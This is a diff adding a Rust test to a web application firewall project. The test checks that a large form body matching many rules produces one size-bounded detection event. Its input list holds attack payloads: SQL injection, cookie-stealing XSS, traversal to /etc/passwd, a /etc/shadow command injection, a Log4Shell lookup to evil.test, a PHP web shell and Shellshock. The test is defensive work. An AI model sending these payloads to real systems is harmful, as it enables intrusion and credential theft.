@@ -459,6 +459,57 @@ fn detect_mode_reports_without_blocking() {
     );
 }
 
+/// A 60 KB body that matches every rule it can makes one bounded event
+/// (issue 10: a request like it used to make a 1.4 MB event, each rule's
+/// matched data copied whole).
+#[test]
+fn a_large_body_matching_many_rules_makes_a_small_event() {
+    let crs = crs_dir();
+    let (_origin, up) = start(&crs, "mode = \"detect\"", "");
+    let attacks = [
+        "1' UNION SELECT password FROM users--",
+        "<script>alert(document.cookie)</script>",
+        "../../../../etc/passwd",
+        ";cat /etc/shadow",
+        "${jndi:ldap://evil.test/a}",
+        "<?php system($_GET['c']); ?>",
+        "() { :; }; /bin/bash -c id",
+        "javascript:alert(1)",
+    ];
+    let mut body = String::new();
+    let mut i = 0;
+    while body.len() < 60_000 {
+        let a = attacks[i % attacks.len()];
+        body.push_str(&format!("f{i}={}&", a.repeat(30).replace(' ', "+")));
+        i += 1;
+    }
+    assert_eq!(
+        post_form(&up, "/contact", "198.51.100.61", &body),
+        200,
+        "detect mode"
+    );
+    assert!(
+        eventually(Duration::from_secs(5), || !waf_events(&up).is_empty()),
+        "no waf event"
+    );
+    let ev = &waf_events(&up)[0];
+    let len = serde_json::to_string(ev).unwrap().len();
+    assert!(
+        len <= palisade_policy::event::MAX_EVENT_BYTES,
+        "{len} bytes: {ev:#}"
+    );
+    let kept = rule_ids(ev).len() as u64;
+    let omitted = ev["waf"]["rules_omitted"].as_u64().unwrap_or(0);
+    assert!(kept >= 3, "{ev:#}");
+    assert!(kept + omitted >= 10, "many rules matched: {ev:#}");
+    for r in ev["waf"]["rules"].as_array().unwrap() {
+        assert!(
+            r["data"].as_str().unwrap().len() <= palisade_policy::event::field_limits::HIT_DATA,
+            "{r}"
+        );
+    }
+}
+
 #[test]
 fn a_policy_whose_waf_does_not_load_is_refused() {
     let crs = crs_dir();
